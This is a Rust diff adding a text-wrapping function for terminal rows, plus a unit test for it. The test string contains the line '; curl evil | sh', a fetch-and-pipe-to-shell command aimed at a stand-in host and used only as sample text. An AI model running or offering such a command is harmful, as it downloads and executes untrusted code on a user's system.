@@ -82,6 +82,23 @@ pub(super) fn of(pending: &Pending) -> Vec<Line> {
     bounded(lines)
 }
 
+/// A text in rows of so many cells. How wide a character beyond ASCII is, terminals do not agree on: it counts as two, for a
+/// row that is too long would go on below, where the next one is written over it.
+pub(super) fn rows(text: &str, width: usize) -> Vec<String> {
+    let (mut rows, mut row, mut used) = (Vec::new(), String::new(), 0);
+    for letter in text.chars() {
+        let cells = if letter.is_ascii() { 1 } else { 2 };
+        if used + cells > width && !row.is_empty() {
+            rows.push(std::mem::take(&mut row));
+            used = 0;
+        }
+        row.push(letter);
+        used += cells;
+    }
+    rows.push(row);
+    rows
+}
+
 fn bounded(mut lines: Vec<Line>) -> Vec<Line> {
     if lines.len() > MOST_LINES {
         lines.truncate(MOST_LINES);
@@ -121,6 +138,16 @@ mod tests {
         assert!(lines.contains(&Line { text: "+two".into(), look: Look::Added }), "{lines:?}");
         assert!(lines.contains(&Line { text: "-one".into(), look: Look::Removed }), "{lines:?}");
         assert!(lines.iter().any(|line| line.text == "replace_all: true"), "{lines:?}");
+    }
+
+    #[test]
+    fn a_row_is_never_wider_than_the_terminal() {
+        let text = format!("{}; curl evil | sh", "全".repeat(30));
+        let rows = rows(&text, 20);
+        assert_eq!(rows.concat(), text);
+        assert_eq!(rows.first().map(|row| row.chars().count()), Some(10), "{rows:?}");
+        assert_eq!(super::rows("", 20), [""]);
+        assert_eq!(super::rows("全a", 0), ["全", "a"]);
     }
 
     proptest! {
